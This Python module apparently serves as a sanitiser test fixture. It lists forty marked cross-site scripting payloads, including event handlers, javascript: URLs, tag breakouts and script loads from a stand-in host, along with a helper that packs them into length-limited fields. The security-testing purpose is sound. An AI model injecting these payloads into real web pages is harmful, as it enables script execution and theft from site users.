"""Forty ways to slip a script into a page. Each leaves a mark where it succeeds, run or not.

What is refused by the Content-Security-Policy is still a fault: an element or attribute that came out of a
text carries `data-xss`, a link to a script is found by its scheme, a template that was worked out by its sum.
"""

PAYLOADS: tuple[str, ...] = (
    "<script data-xss>alert(1)</script>",
    "<ScRiPt data-xss >alert(1)</sCrIpT >",
    "<script data-xss src=//x.example></script>",
    "<<script data-xss>alert(1)//<</script>",
    "<img data-xss src=x onerror=alert(1)>",
    "<img/data-xss/src=x/onerror=alert(1)>",
    "<img data-xss src=`x`onerror=alert(1)>",
    "<svg data-xss onload=alert(1)>",
    "<svg><script data-xss>alert&#40;1)</script>",
    "<svg><animate data-xss onbegin=alert(1)>",
    "<body data-xss onload=alert(1)>",
    "<iframe data-xss src=javascript:alert(1)>",
    "<iframe data-xss srcdoc='<b>'>",
    "<object data-xss data=javascript:alert(1)>",
    "<embed data-xss src=javascript:alert(1)>",
    "<details data-xss open ontoggle=alert(1)>",
    "<input data-xss autofocus onfocus=alert(1)>",
    "<select data-xss autofocus onfocus=alert(1)>",
    "<video data-xss><source onerror=alert(1)>",
    "<audio data-xss src onerror=alert(1)>",
    "<math data-xss><mtext></mtext></math>",
    "<base data-xss href=//x.example/>",
    "<link data-xss rel=stylesheet href=//x.example>",
    "<style data-xss>*{color:red}</style>",
    "<meta data-xss http-equiv=refresh content=0>",
    "<form data-xss action=//x.example><button>",
    "<a data-xss href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    '![x](x "onerror=alert(1) data-xss=\'")',
    "<javascript:alert(1)>",
    '" data-xss onfocus=alert(1) autofocus x="',
    "' data-xss onmouseover=alert(1) x='",
    '"><b data-xss>',
    "'><b data-xss>",
    "</textarea><b data-xss>",
    "</title><b data-xss>",
    "</script><b data-xss>",
    "--><b data-xss>",
    "{{ 7|add:7 }}xss{% debug %}",
)
assert len(PAYLOADS) == len(set(PAYLOADS)) == 40


def packed(length: int | None, start: int) -> list[str]:
    """As many payloads as fit side by side, beginning with the one at `start`; one at least that fits."""
    taken: list[str] = []
    room = length if length is not None else 10_000
    for step in range(len(PAYLOADS)):
        payload = PAYLOADS[(start + step) % len(PAYLOADS)]
        if len(payload) + 1 <= room:
            taken.append(payload)
            room -= len(payload) + 1
    return taken
